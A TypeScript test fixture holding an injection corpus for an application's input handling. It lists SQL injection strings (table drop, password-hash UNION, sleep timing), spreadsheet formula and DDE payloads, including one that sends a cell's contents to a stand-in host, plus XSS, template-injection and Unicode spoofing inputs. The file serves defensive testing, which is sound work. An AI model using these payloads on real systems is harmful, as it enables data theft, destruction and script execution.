/**
 * Issue 14's injection corpus: what an attacker types into a free-text field, a filter or a sort key,
 * shared by the integration suite (SQL, CSV/XLSX, PDF) and the browser check (HTML shown in the UI).
 * Each entry has the family it attacks so a failure names what broke.
 */
export type InjectionFamily = 'sql' | 'formula' | 'html' | 'unicode';

export interface InjectionCase {
  family: InjectionFamily;
  text: string;
}

export const INJECTION_CORPUS: readonly InjectionCase[] = [
  { family: 'sql', text: "x' OR '1'='1" },
  { family: 'sql', text: "x'; DROP TABLE customers; --" },
  { family: 'sql', text: 'x" OR ""="' },
  { family: 'sql', text: "x') UNION SELECT password_hash, username FROM staff_users -- " },
  { family: 'sql', text: "x\\'; SELECT SLEEP(5); -- " },
  { family: 'sql', text: '%_% wildcard' },
  { family: 'sql', text: 'x` OR 1=1 /*' },
  { family: 'formula', text: '=HYPERLINK("http://evil.example/?q="&A1,"Open")' },
  { family: 'formula', text: "+cmd|' /C calc'!A0" },
  { family: 'formula', text: "-2+3+cmd|' /C calc'!A0" },
  { family: 'formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { family: 'formula', text: '\uFF1DHYPERLINK("http://evil.example")' },
  { family: 'html', text: '<img src=x onerror="window.__pwned=1">' },
  { family: 'html', text: '<script>window.__pwned=2</script>' },
  { family: 'html', text: '"><svg onload="window.__pwned=3">' },
  { family: 'html', text: '<a href="javascript:window.__pwned=4">click</a>' },
  { family: 'html', text: '{{constructor.constructor("window.__pwned=5")()}}' },
  { family: 'unicode', text: 'Ev\u0430 Nov\u00e1kov\u00e1' }, // Cyrillic а
  { family: 'unicode', text: 'Jan \u202eluaP' }, // right-to-left override
  { family: 'unicode', text: 'Jan\u200b Nov\u00e1k\u2066\u2069' }, // zero-width space, isolates
  { family: 'unicode', text: 'Ｊａｎ Ｎｏｖáｋ' }, // full-width forms
];

/** The HTML entries: names that would run script or add elements if a screen rendered them as markup. */
export const HTML_NAMES: readonly string[] = INJECTION_CORPUS.filter((c) => c.family === 'html').map((c) => c.text);
